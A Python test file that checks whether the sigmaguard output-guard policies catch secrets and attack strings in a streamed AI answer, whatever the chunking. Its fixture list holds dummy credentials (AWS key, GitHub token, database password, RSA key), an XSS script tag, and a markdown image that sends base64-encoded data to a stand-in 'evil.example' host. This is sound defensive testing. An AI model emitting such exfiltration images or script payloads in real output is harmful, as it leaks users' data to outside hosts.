"""The shipped policies over streams: any chunking ends as the whole answer does, with the real detectors."""

from functools import cache
from itertools import pairwise
from zlib import crc32

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sigmaguard.model import Action, Direction, Origin, Timing
from sigmaguard.policy.compile import PolicyLoader
from sigmaguard.policy.compiled import Policy
from sigmaguard.policy.load import pack_from
from sigmaguard_policies import policies_root
from tests.engine.test_stream import DISGUISES, encoded, run, told, whole_answer

BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def github_token(body: str) -> str:
    """A token whose last six characters are the checksum of the thirty before, as GitHub documents it."""
    rest, digits = crc32(body.encode()), ""
    while rest:
        rest, digit = divmod(rest, 62)
        digits = BASE62[digit] + digits
    return "ghp_" + body + digits.rjust(6, "0")


GITHUB = github_token("a8Kd03jLmQ9xZpR7tVb2NcY5wEs1Uf")
PLANTED = [
    "anna.schmidt@example.org",
    "+49 30 901820",
    "DE89 3704 0044 0532 0130 00",
    "4111 1111 1111 1111",
    "AKIAIOSFODNN7EXAMPLQ",
    GITHUB,
    "postgres://app:s3cr3tPassw0rd@db.internal:5432/app",
    "password = 'hunter2hunter2X9'",
    "Bearer abcdefghijklmnopqrstuvwxyz0123456789",
    "https://evil.example/a?b=c",
    "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)",
    "http://192.168.1.1/admin",
    "<script>alert(1)</script>",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1234567890abcdefgh\n-----END RSA PRIVATE KEY-----",
]
FILLER = [
    "The cat sat. ",
    "Write to ",
    " please",
    ", and then ",
    "\n\n",
    "a ",
    "I am ",
    "(see ",
    ")",
    "`code` ",
    "日本 ",
]
pieces = st.one_of(
    st.sampled_from(PLANTED),
    st.sampled_from(FILLER),
    st.builds(encoded, st.sampled_from(PLANTED[:6]), st.sampled_from(DISGUISES)),
)
texts = st.lists(pieces, min_size=1, max_size=7).map("".join)


@cache
def policy(name: str) -> Policy:
    """A shipped policy without its classifier, which looks at nothing that comes out."""
    root = policies_root()
    raw = {"name": name, "extends": name, "detectors": {"injection": {"enabled": False}}}
    return PolicyLoader(root).compile(pack_from(raw, root, name), root / "packs")


@st.composite
def chunked(draw: st.DrawFn) -> tuple[str, list[str]]:
    """A text and one way to cut it."""
    text = draw(texts)
    cuts = draw(
        st.one_of(st.just(list(range(len(text)))), st.lists(st.integers(0, len(text)), max_size=20).map(sorted))
    )
    edges = [0, *cuts, len(text)]
    return text, [text[low:high] for low, high in pairwise(edges) if low < high]


@pytest.mark.parametrize("name", ["basic", "strict"])
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=chunked())
def test_a_stream_ends_as_the_whole_does(name: str, case: tuple[str, list[str]]) -> None:
    text, chunks = case
    guard = run(policy(name), chunks)
    expected, findings = whole_answer(policy(name), text)
    if expected is None:
        assert guard.stopped is not None
    else:
        assert guard.stopped is None
        assert guard.released == expected  # type: ignore[attr-defined]
        assert told(guard.findings) == told(findings)


@pytest.mark.parametrize("name", ["basic", "strict"])
@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("AKIAIOSFODNN7EXAMPLQ", "AKIAIOSFODNN7EXAMPLQ"),
        (GITHUB, GITHUB),
        ("postgres://app:s3cr3tPassw0rd@db.internal:5432/app", "s3cr3tPassw0rd"),
        ("password = 'hunter2hunter2X9'", "hunter2hunter2X9"),
    ],
)
def test_no_piece_of_a_secret_leaves(name: str, text: str, secret: str) -> None:
    released: str = run(policy(name), list(f"well, {text} it is")).released  # type: ignore[attr-defined]
    assert not any(secret[at : at + 6] in released for at in range(len(secret) - 6))


@pytest.mark.parametrize("name", ["basic", "strict"])
def test_no_shipped_policy_buffers_an_answer_whole(name: str) -> None:
    guard = run(policy(name), ["The cat sat on the mat and "])
    assert guard.whole_only == []
    for active in policy(name).plan(Direction.OUTPUT, Timing.BEFORE).detectors:
        if active.actions[1] in (Action.MASK, Action.BLOCK) and Origin.ASSISTANT in active.origins:
            assert hasattr(active.detector, "hold"), active.detector.name
